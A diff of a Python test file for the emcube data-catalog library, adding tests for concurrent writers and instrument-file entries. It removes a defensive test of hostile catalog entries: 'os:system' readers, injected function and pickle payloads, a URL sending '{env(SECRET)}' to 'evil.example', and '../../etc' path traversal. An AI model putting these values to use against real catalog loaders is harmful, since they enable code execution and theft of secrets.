@@ -2,21 +2,22 @@
 
 from __future__ import annotations
 
-import os
 import shutil
 import subprocess
 import sys
+import time
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import numpy as np
 import pytest
-import yaml
 
 import emcube as em
 from emcube.catalog import add, create, open_catalog, resolve
-from emcube.errors import CatalogError, CubeError
+from emcube.catalog.document import change
+from emcube.errors import CatalogError, CubeError, ReadError
 from emcube.store import read_digest, write_cube
+from tests.catalog.helpers import intake_says
 
 ROOT = Path(__file__).parents[2]
 
@@ -58,18 +59,21 @@ def catalog(lab: Path, tmp_path: Path) -> Path:
 def test_plain_intake_reads_a_catalog(catalog: Path) -> None:
     # In another folder, in a process of its own, where nothing of emcube can help.
     code = f"""
-import sys
-import intake
 cat = intake.open_catalog({str(catalog)!r})
 assert sorted(cat) == ["edge", "jadeite", "multilayer", "unknown"], list(cat)
 data = cat["multilayer"].read()
+# Lazy without Dask: nothing is in memory before it is asked for.
+assert not data["data"].variable._in_memory
 assert data["data"].shape == (4, 5, 6)
-assert data["data"].chunks is not None
 assert int(data["total_counts"].sum()) == 120
 assert cat["multilayer"].metadata["elements"] == ["Ni", "Cr", "Si"]
-assert "emcube" not in sys.modules
 """
-    subprocess.run([sys.executable, "-c", code], check=True, timeout=200, cwd="/")
+    intake_says(code)
+    import intake
+
+    assert (
+        intake.open_catalog(str(catalog))["multilayer"].read(chunks={})["data"].chunks is not None
+    )
 
 
 def test_stores_are_found_beside_a_catalog_that_moved(catalog: Path, tmp_path: Path) -> None:
@@ -146,8 +150,10 @@ def test_adding(catalog: Path, tmp_path: Path) -> None:
     with pytest.raises(CatalogError, match="does not exist"):
         add(catalog, tmp_path / "none.zarr")
     (tmp_path / "map.bcf").write_text("x")
-    with pytest.raises(CatalogError, match=r"not a cube store.*ingest it first"):
+    with pytest.raises(ReadError, match="is not a Bruker map"):
         add(catalog, tmp_path / "map.bcf")
+    with pytest.raises(CatalogError, match=r"is a folder, but not a cube store"):
+        add(catalog, tmp_path / "stores")
     (tmp_path / "{env(HOME)}").mkdir()
     with pytest.raises(CatalogError, match="braces in a path"):
         add(catalog, shutil.copytree(store, tmp_path / "{env(HOME)}" / "e.zarr"))
@@ -190,10 +196,85 @@ def test_a_failed_change_leaves_the_file(catalog: Path) -> None:
     assert not [p.name for p in catalog.parent.iterdir() if "tmp" in p.name]
 
 
+WRITER = """
+import sys
+from pathlib import Path
+from emcube.catalog.document import change, put
+from emcube.catalog.targets import halves_of
+for i in range(int(sys.argv[3])):
+    name = f"{sys.argv[2]} {i}"
+    address = "{CATALOG_DIR}/a.zarr"
+    change(Path(sys.argv[1]), lambda d: put(d, name, *halves_of(name, "zarr", address, {"title": name})))
+    print(name, flush=True)
+"""
+
+
+def writers(path: Path, n: int) -> list[subprocess.Popen[str]]:
+    """Processes that each add entries and tell each one that is in."""
+    return [
+        subprocess.Popen(
+            [sys.executable, "-c", WRITER, str(path), name, str(n)],
+            stdout=subprocess.PIPE,
+            text=True,
+        )
+        for name in ("first", "second", "third")
+    ]
+
+
+def test_processes_that_write_at_once_lose_nothing(tmp_path: Path) -> None:
+    path = tmp_path / "c.yaml"
+    started = writers(path, 8)
+    told = [process.communicate(timeout=200)[0].splitlines() for process in started]
+    assert [process.returncode for process in started] == [0, 0, 0]
+    assert sorted(open_catalog(path)) == sorted(name for names in told for name in names)
+    assert len(open_catalog(path)) == 24
+    assert [p.name for p in tmp_path.iterdir()] == ["c.yaml"]
+
+
+def test_killed_writers_lose_nothing(tmp_path: Path) -> None:
+    path = tmp_path / "c.yaml"
+    started = writers(path, 100_000)
+    told = []
+    for process in started:
+        assert process.stdout is not None
+        told += [process.stdout.readline().strip() for _ in range(3)]
+    for process in started:
+        process.kill()
+    for process in started:
+        told += process.communicate(timeout=60)[0].splitlines()
+    # The last line of a process may have been cut off when it was killed.
+    whole = {name for name in told if name in open_catalog(path)}
+    assert len(set(told) - whole) <= len(started)
+    assert all(name in whole for name in told[:9])
+    # What they held and left is nobody's: the next one goes on at once.
+    start = time.monotonic()
+    change(path, lambda document: None)
+    assert time.monotonic() - start < 30
+    assert whole <= set(open_catalog(path))
+    assert [p.name for p in tmp_path.iterdir()] == ["c.yaml"]
+
+
 def test_create(tmp_path: Path) -> None:
     assert len(create(tmp_path / "new.yaml", title="Mine")) == 0
     with pytest.raises(CatalogError, match="exists already"):
         create(tmp_path / "new.yaml")
+
+
+def test_an_instrument_file_is_an_entry_and_runs(tmp_path: Path) -> None:
+    counts = np.random.default_rng(0).poisson(3, (12, 14, 20)).astype("u2")
+    np.save(tmp_path / "map.npy", counts)
+    entry = add(tmp_path / "c.yaml", tmp_path / "map.npy", modality="EDX", elements=["Ni"])
+    assert entry.kind == "file"
+    assert entry.metadata["shape"] == [12, 14, 20]
+    assert entry.metadata["checksum"].startswith("sha256:")
+    assert entry.open().shape == em.open(f"{tmp_path}/c.yaml:map").shape == (12, 14, 20)
+    recipe = {
+        "input": {"catalog": str(tmp_path / "c.yaml"), "dataset": "map"},
+        "steps": [{"pca": {"n_components": 3}}],
+    }
+    made = em.run(recipe, out=tmp_path / "result")
+    assert made["pca"]["components"].shape == (3, 20)
+    assert em.ingest(f"{tmp_path}/c.yaml:map", tmp_path / "map.zarr") == tmp_path / "map.zarr"
 
 
 # --- references -----------------------------------------------------------------------------------
@@ -236,59 +317,11 @@ def test_the_demo_catalog_says_how_to_get_its_store(tmp_path: Path) -> None:
     make_store(tmp_path / "demo" / "srm2135c.zarr")
     assert em.open(f"{path}:srm2135c").shape == (4, 5, 6)
     assert list(open_catalog(path).search(modality="EDS", elements=["Ni", "Cr"])) == ["srm2135c"]
-    code = f"import intake; print(intake.open_catalog({str(path)!r})['srm2135c'].read().data.shape)"
-    subprocess.run([sys.executable, "-c", code], check=True, timeout=200, cwd=os.sep)
+    code = f"print(intake.open_catalog({str(path)!r})['srm2135c'].read().data.shape)"
+    assert intake_says(code) == "(4, 5, 6)"
 
 
-# --- trust ----------------------------------------------------------------------------------------
-
-
-def edited(catalog: Path, change) -> Path:
-    text = yaml.safe_load(catalog.read_text())
-    change(text)
-    catalog.write_text(yaml.safe_dump(text))
-    return catalog
-
-
-def data_kwargs(document: dict) -> dict:
-    return document["data"]["jadeite-data"]["kwargs"]
-
-
-@pytest.mark.parametrize(
-    "change",
-    [
-        lambda d: d["entries"]["jadeite"].update(reader="os:system"),
-        lambda d: d["entries"]["jadeite"].update(reader="intake.readers.readers:PickleReader"),
-        lambda d: d["entries"]["jadeite"].update(output_instance="os:system"),
-        lambda d: d["entries"]["jadeite"]["kwargs"].update(preprocess="{func(os:system)}"),
-        lambda d: d["entries"]["jadeite"]["kwargs"].update(chunks="{func(os:getcwd)}"),
-        lambda d: d["entries"]["jadeite"]["kwargs"].update(args=["{func(os:getcwd)}"]),
-        lambda d: d["entries"]["jadeite"]["kwargs"].update(args=["{pickle64(gASVLg==)}"]),
-        lambda d: d["entries"]["jadeite"].update(user_parameters={"a": {"cls": "os:system"}}),
-        lambda d: d.update(user_parameters={"a": "{env(HOME)}"}),
-        lambda d: d["data"]["jadeite-data"].update(datatype="os:system"),
-        lambda d: d["data"]["jadeite-data"].update(user_parameters={"a": 1}),
-        lambda d: data_kwargs(d).update(url="{func(os:getcwd)}/a.zarr"),
-        lambda d: data_kwargs(d).update(url="{CATALOG_DIR}/{env(SECRET)}.zarr"),
-        lambda d: data_kwargs(d).update(url="https://evil.example/{env(SECRET)}/a.zarr"),
-        lambda d: data_kwargs(d).update(url="simplecache::https://host/a.zarr"),
-        lambda d: data_kwargs(d).update(url="ssh://host/a.zarr"),
-        lambda d: data_kwargs(d).update(url=["a.zarr"]),
-        lambda d: data_kwargs(d).update(storage_options={"key": "{env(SECRET)}"}),
-        lambda d: data_kwargs(d).update(root="../../etc"),
-        lambda d: d["data"].pop("jadeite-data"),
-        lambda d: d["entries"].update(jadeite=["not", "a", "mapping"]),
-    ],
-)
-def test_entries_that_could_run_code_are_not_opened(catalog: Path, change) -> None:
-    found = open_catalog(edited(catalog, change))
-    # Listing and searching look at data only; the other entries stay usable.
-    assert "jadeite" in found
-    assert "refused" in found["jadeite"].to_json()
-    with pytest.raises(CatalogError, match="is not opened"):
-        found["jadeite"].open()
-    with pytest.raises(CatalogError, match="is not opened"):
-        found.to_intake()
+# --- Intake ----------------------------------------------------------------------------------------
 
 
 def test_harmless_catalogs_open_with_intake(catalog: Path) -> None:
